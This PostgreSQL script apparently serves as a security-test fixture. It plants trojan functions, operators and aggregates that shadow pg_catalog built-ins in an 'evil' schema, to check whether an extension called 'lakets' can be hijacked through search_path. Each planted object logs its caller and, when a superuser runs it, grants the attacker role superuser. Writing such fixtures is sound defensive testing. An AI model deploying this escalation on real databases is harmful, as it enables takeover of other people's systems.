-- plant.sql: what the role "attacker" plants in its schema "evil", run as
-- attacker with search_path = pg_catalog (so that nothing here resolves to
-- what it plants). Every planted function records who ran it in evil.ran
-- and, if that role is a superuser, makes attacker one too.
SET client_min_messages = warning;

CREATE TABLE evil.ran (cur name, sess name, obj text, UNIQUE (cur, sess, obj));
GRANT INSERT, SELECT ON evil.ran TO PUBLIC;
-- a schema on the path is searched only where its USAGE is granted
GRANT USAGE ON SCHEMA evil TO PUBLIC;

CREATE FUNCTION evil.hit(p_obj text) RETURNS void LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp AS $$
BEGIN
	IF current_user <> 'attacker' THEN
		RAISE WARNING 'lakets-attack: % ran as %', p_obj, current_user;
	END IF;
	INSERT INTO evil.ran VALUES (current_user, session_user, p_obj) ON CONFLICT DO NOTHING;
	IF EXISTS (SELECT FROM pg_roles WHERE rolname = current_user AND rolsuper) THEN
		BEGIN
			ALTER ROLE attacker SUPERUSER;
		EXCEPTION WHEN OTHERS THEN
			NULL;
		END;
	END IF;
END $$;

-- Operators shadowing pg_catalog's; each returns the real result.
DO $$
DECLARE
	pairs text[] := ARRAY[
		['name', 'name'], ['oid', 'oid'], ['int2', 'int2'], ['int4', 'int4'], ['int8', 'int8'],
		['int4', 'int8'], ['int8', 'int4'], ['text', 'text'], ['name', 'text'], ['text', 'name'],
		['timestamptz', 'timestamptz'], ['timestamp', 'timestamp'], ['date', 'date'],
		['interval', 'interval'], ['regclass', 'regclass'], ['regnamespace', 'regnamespace'],
		['bool', 'bool'], ['"char"', '"char"'], ['float8', 'float8'], ['numeric', 'numeric']];
	arith text[] := ARRAY[
		['+', 'timestamptz', 'interval', 'timestamptz'], ['-', 'timestamptz', 'interval', 'timestamptz'],
		['+', 'timestamp', 'interval', 'timestamp'], ['-', 'timestamp', 'interval', 'timestamp'],
		['-', 'timestamptz', 'timestamptz', 'interval'], ['+', 'int4', 'int4', 'int4'],
		['+', 'int8', 'int8', 'int8'], ['*', 'interval', 'float8', 'interval'],
		['||', 'text', 'text', 'text'], ['~~', 'text', 'text', 'bool'], ['~~', 'name', 'text', 'bool']];
	p text[];
	op text;
	n int := 0;
BEGIN
	FOREACH p SLICE 1 IN ARRAY pairs LOOP
		FOREACH op IN ARRAY ARRAY['=', '<', '<=', '>=', '>', '<>'] LOOP
			arith := arith || ARRAY[[op, p[1], p[2], 'bool']];
		END LOOP;
	END LOOP;
	FOREACH p SLICE 1 IN ARRAY arith LOOP
		n := n + 1;
		EXECUTE format('CREATE FUNCTION evil.op_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS %L',
			n, p[2], p[3], p[4],
			format('BEGIN PERFORM evil.hit(%L); RETURN a OPERATOR(pg_catalog.%s) b; END',
				format('operator %s(%s,%s)', p[1], p[2], p[3]), p[1]));
		EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.op_%s)',
			p[1], p[2], p[3], n);
	END LOOP;
END $$;

-- Functions shadowing pg_catalog's: name, argument types, result type.
DO $$
DECLARE
	funcs text[] := ARRAY[
		['now', '', 'timestamptz'], ['statement_timestamp', '', 'timestamptz'],
		['clock_timestamp', '', 'timestamptz'], ['transaction_timestamp', '', 'timestamptz'],
		['current_database', '', 'name'], ['lower', 'text', 'text'], ['upper', 'text', 'text'],
		['length', 'text', 'int4'], ['quote_ident', 'text', 'text'],
		['quote_literal', 'text', 'text'], ['quote_nullable', 'text', 'text'],
		['format', 'text', 'text'], ['format', 'text, text', 'text'],
		['format', 'text, text, text', 'text'], ['format', 'text, text, text, text', 'text'],
		['format', 'text, text, text, text, text', 'text'],
		['split_part', 'text, text, int4', 'text'], ['encode', 'bytea, text', 'text'],
		['replace', 'text, text, text', 'text'], ['concat_ws', 'text, text, text', 'text'],
		['pg_try_advisory_lock', 'int4, int4', 'bool'], ['pg_try_advisory_lock', 'int8', 'bool'],
		['pg_try_advisory_xact_lock', 'int4, int4', 'bool'],
		['pg_try_advisory_xact_lock', 'int8', 'bool'], ['pg_advisory_unlock', 'int4, int4', 'bool'],
		['pg_advisory_xact_lock', 'int4, int4', 'void'],
		['set_config', 'text, text, bool', 'text'], ['current_setting', 'text', 'text'],
		['current_setting', 'text, bool', 'text'], ['to_regclass', 'text', 'regclass'],
		['to_regnamespace', 'text', 'regnamespace'],
		['pg_total_relation_size', 'regclass', 'int8'], ['pg_relation_size', 'regclass', 'int8'],
		['pg_get_userbyid', 'oid', 'name'], ['pg_table_is_visible', 'oid', 'bool'],
		['isfinite', 'timestamptz', 'bool'], ['isfinite', 'timestamp', 'bool'],
		['date_trunc', 'text, timestamptz', 'timestamptz'],
		['date_trunc', 'text, timestamp', 'timestamp'],
		['tstzrange', 'timestamptz, timestamptz', 'tstzrange'],
		['array_length', 'anyarray, int4', 'int4'], ['array_to_string', 'anyarray, text', 'text'],
		['txid_current', '', 'int8'], ['pg_backend_pid', '', 'int4']];
	f text[];
	args text;
	n int := 0;
BEGIN
	FOREACH f SLICE 1 IN ARRAY funcs LOOP
		n := n + 1;
		SELECT string_agg('$' || i, ', ') INTO args
		FROM generate_series(1, array_length(string_to_array(f[2], ','), 1)) i;
		EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
			f[1], f[2], f[3],
			format('BEGIN PERFORM evil.hit(%L); %s pg_catalog.%I(%s); END',
				format('function %s(%s)', f[1], f[2]),
				CASE WHEN f[3] = 'void' THEN 'PERFORM' ELSE 'RETURN' END, f[1], coalesce(args, '')));
	END LOOP;
END $$;

CREATE FUNCTION evil.unnest(anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.hit('function unnest(anyarray)');
	RETURN QUERY SELECT pg_catalog.unnest($1);
END $$;
CREATE FUNCTION evil.generate_series(timestamptz, timestamptz, interval)
RETURNS SETOF timestamptz LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.hit('function generate_series(timestamptz, timestamptz, interval)');
	RETURN QUERY SELECT pg_catalog.generate_series($1, $2, $3);
END $$;

-- Aggregates: count(*), max, min and sum of the types lakets aggregates.
CREATE FUNCTION evil.count_step(int8) RETURNS int8 LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.hit('aggregate count(*)');
	RETURN $1 OPERATOR(pg_catalog.+) 1;
END $$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.count_step, STYPE = int8, INITCOND = '0');
DO $$
DECLARE
	t text;
BEGIN
	FOREACH t IN ARRAY ARRAY['timestamptz', 'timestamp', 'date', 'int4', 'int8'] LOOP
		EXECUTE format('CREATE FUNCTION evil.max_step_%1$s(%1$s, %1$s) RETURNS %1$s STRICT LANGUAGE plpgsql AS %2$L',
			t, format('BEGIN PERFORM evil.hit(%L); IF $2 OPERATOR(pg_catalog.>) $1 THEN RETURN $2; END IF; RETURN $1; END',
				'aggregate max(' || t || ')'));
		EXECUTE format('CREATE AGGREGATE evil.max(%1$s) (SFUNC = evil.max_step_%1$s, STYPE = %1$s)', t);
		EXECUTE format('CREATE FUNCTION evil.min_step_%1$s(%1$s, %1$s) RETURNS %1$s STRICT LANGUAGE plpgsql AS %2$L',
			t, format('BEGIN PERFORM evil.hit(%L); IF $2 OPERATOR(pg_catalog.<) $1 THEN RETURN $2; END IF; RETURN $1; END',
				'aggregate min(' || t || ')'));
		EXECUTE format('CREATE AGGREGATE evil.min(%1$s) (SFUNC = evil.min_step_%1$s, STYPE = %1$s)', t);
	END LOOP;
END $$;
CREATE FUNCTION evil.sum_step(int8, int4) RETURNS int8 LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.hit('aggregate sum(int4)');
	RETURN coalesce($1, 0) OPERATOR(pg_catalog.+) $2;
END $$;
CREATE AGGREGATE evil.sum(int4) (SFUNC = evil.sum_step, STYPE = int8);

-- Code that runs on the attacker's own tables.
CREATE FUNCTION evil.trg() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.hit('trigger function');
	RETURN NEW;
END $$;
CREATE FUNCTION evil.chk(int) RETURNS bool LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
	PERFORM evil.hit('check constraint function');
	RETURN true;
END $$;
CREATE FUNCTION evil.dflt() RETURNS text LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.hit('column default function');
	RETURN 'x';
END $$;
CREATE FUNCTION evil.idx(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
	PERFORM evil.hit('index expression function');
	RETURN $1;
END $$;
CREATE FUNCTION evil.imm(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
	PERFORM evil.hit('rollup query function');
	RETURN $1;
END $$;

-- A counter for the work done before each victim call (work.sql).
CREATE TABLE evil.counter (n int NOT NULL);
INSERT INTO evil.counter VALUES (0);
